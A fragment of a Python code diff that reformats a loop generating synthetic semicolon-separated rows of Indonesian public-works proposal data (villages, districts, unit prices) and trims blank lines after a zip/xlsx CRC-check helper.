     with path.open("w", encoding="utf-8", newline="") as fh:
         fh.write(";".join(USULAN_HEADER) + "\r\n")
         buf = []
         for i in range(1, rows + 1):
-            buf.append(f"MR-{i:07d};{works[i % 4]} {i % 97};Rusak {i % 13};Kp. {i % 211} RT {i % 9:02d};"
-                       f"{kec[i % 6]};Desa {i % 101};{i % 50 + 1};Unit;{(i % 900 + 100) * 1000:,}".replace(",", ".")
-                       + ";DPUPR\r\n")
+            buf.append(
+                f"MR-{i:07d};{works[i % 4]} {i % 97};Rusak {i % 13};Kp. {i % 211} RT {i % 9:02d};"
+                f"{kec[i % 6]};Desa {i % 101};{i % 50 + 1};Unit;{(i % 900 + 100) * 1000:,}".replace(",", ".")
+                + ";DPUPR\r\n"
+            )
             if len(buf) == 10000:
                 fh.write("".join(buf))
                 buf = []
@@ -723,5 +1048,3 @@ def crc_ok(path: Path) -> bool:
     """True when every member of a zip (an xlsx) reads back with a correct CRC."""
     with zipfile.ZipFile(path) as archive:
         return archive.testzip() is None
-
-
